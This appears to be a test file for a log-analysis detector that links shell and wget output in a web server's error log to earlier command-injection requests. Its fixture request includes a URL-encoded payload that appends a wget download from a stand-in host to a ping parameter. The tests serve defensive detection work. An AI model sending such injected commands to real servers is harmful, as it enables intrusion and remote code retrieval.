"""A shell's or downloader's own words in an error log, and which attack they go with."""

from __future__ import annotations

from dataclasses import replace

import pytest
from tests.detection.behaviours.story import Story, clock

from siaga.detection.behaviours.injection.process_output import Outputs

BAD = "203.0.113.5"
AT = "10 14:00:10"
WEATHER = "HTTP request sent, awaiting response... 200 OK"
JOB = "Saving to: 'cache/prakiraan.xml'"


def _story(query: str = "host=8.8.8.8%3Bwget+http%3A%2F%2F198.51.100.9%2Fkucing77") -> Story:
    story = Story()
    story.ask(AT, BAD, f"/ping.php?{query}", families=("command-injection",))
    return story


def _near(story: Story) -> list[str]:
    scene = story.scene()
    return [happening.event.message for happening in Outputs(scene).near(scene.moves)]


def test_output_close_in_time_goes_with_the_attack() -> None:
    story = _story()
    story.tell("10 14:00:12", "output", message="sh: 1: whoami: not found")
    assert _near(story) == ["sh: 1: whoami: not found"]


def test_what_a_mended_bash_says_when_it_refuses_is_no_output() -> None:
    story = _story()
    refusal = "/bin/bash: warning: HTTP_USER_AGENT: ignoring function definition attempt"
    story.tell("10 14:00:12", "output", message=refusal)
    story.tell("10 14:00:12", "output", message="error importing function definition for `HTTP_USER_AGENT'")
    assert _near(story) == []


def test_output_far_off_in_time_does_not() -> None:
    story = _story()
    story.tell("10 14:03:00", "output", message="sh: 1: whoami: not found")
    assert _near(story) == []


def test_output_that_names_what_was_sent_may_lie_further_off() -> None:
    story = _story()
    story.tell("10 14:03:00", "output", message="Saving to: 'kucing77'")
    assert _near(story) == ["Saving to: 'kucing77'"]


def test_a_line_without_a_stamp_must_name_what_was_sent() -> None:
    story = _story()
    story.tell(None, "output", message="sh: 1: whoami: not found")
    story.tell(None, "output", message="cannot write kucing77")
    assert _near(story) == ["cannot write kucing77"]


@pytest.mark.parametrize(("hours", "found"), [(7, True), (30, False)])
def test_a_clock_that_was_never_compared_may_be_in_any_zone(hours: int, found: bool) -> None:
    story = _story()
    story.tell(clock(AT) + hours * 3_600_000_000, "output", message="Saving to: 'kucing77'")
    assert bool(_near(story)) == found


def test_a_clock_that_was_compared_is_set_right() -> None:
    story = _story()
    for number in range(8):
        at = clock("10 10:00") + number * 137_000_000
        story.ask(at, f"198.51.100.{number}", f"/hilang-{number}", 404)
        # the error log's clock is seven hours ahead
        story.tell(
            at + 7 * 3_600_000_000, "error", client=f"198.51.100.{number}", message="File does not exist"
        )
    story.tell(clock(AT) + 7 * 3_600_000_000 + 2_000_000, "output", message="sh: 1: whoami: not found")
    assert _near(story) == ["sh: 1: whoami: not found"]


@pytest.mark.parametrize(
    "message", [WEATHER, "ping: kec.kota.example: Name or service not known", "sh: 1: convert: not found"]
)
def test_stock_phrases_of_tools_name_nothing(message: str) -> None:
    story = _story("command=request&name=found&service=awaiting")
    story.tell("10 14:03:00", "output", message=message)
    assert _near(story) == []


def test_common_words_name_nothing() -> None:
    story = _story("page=index%3Becho")
    story.tell(None, "output", message="index page: http echo")
    assert _near(story) == []


def test_ordinary_errors_are_no_output() -> None:
    story = _story()
    story.tell("10 14:00:12", "error", message="kucing77: File does not exist")
    assert _near(story) == []


def test_output_without_a_stamp_was_written_between_its_neighbours() -> None:
    story = _story()
    story.tell("10 13:50:00", "error", message="started")
    story.tell("10 13:50:00", "output", message="Saving to: 'kucing77'", stamped=False)
    story.tell("10 14:10:00", "error", message="stopped")
    assert _near(story) == ["Saving to: 'kucing77'"]


def test_nearness_in_time_is_not_enough_for_output_without_a_stamp() -> None:
    story = _story()
    story.tell("10 14:00:11", "error", message="started")
    story.tell("10 14:00:11", "output", message="sh: 1: whoami: not found", stamped=False)
    assert _near(story) == []


def _job(story: Story, *days: int) -> None:
    """Let a job of the server's own speak at noon, between stamped lines."""
    for day in days:
        story.tell(f"{day:02} 11:59:00", "error", message="before")
        story.tell(f"{day:02} 11:59:00", "output", message=JOB, stamped=False)
        story.tell(f"{day:02} 12:01:00", "error", message="after")


def test_what_a_job_of_the_server_says_day_by_day_goes_with_no_attack() -> None:
    story = _story("x=prakiraan.xml%3Bkucing77")
    story.requests[0] = replace(story.requests[0], time_us=clock("10 12:00:00"))
    _job(story, 7, 8, 9, 10)
    assert _near(story) == []


@pytest.mark.parametrize("days", [(9, 10), (10, 11, 12, 13)])
def test_what_was_not_yet_usual_when_the_attack_came_may_be_its_own(days: tuple[int, ...]) -> None:
    story = _story("x=prakiraan.xml%3Bkucing77")
    story.requests[0] = replace(story.requests[0], time_us=clock("10 12:00:00"))
    _job(story, *days)
    assert _near(story)


def test_a_word_that_the_log_always_uses_names_nothing() -> None:
    story = _story("x=prakiraan.xml%3Bkucing77")
    _job(story, 6, 7, 8, 9)
    story.tell("10 14:03:00", "output", message="prakiraan.xml is told of for once")
    story.tell("10 14:03:00", "output", message="Saving to: 'kucing77'")
    assert _near(story) == ["Saving to: 'kucing77'"]


def test_a_complaint_about_the_whole_payload_is_no_witness() -> None:
    story = _story("host=127.0.0.1%3Bkucing77")
    story.tell("10 14:00:12", "output", message="ping: 127.0.0.1;kucing77: Name or service not known")
    story.tell("10 14:00:12", "output", message="sh: 1: kucing77: not found")
    assert _near(story) == ["sh: 1: kucing77: not found"]
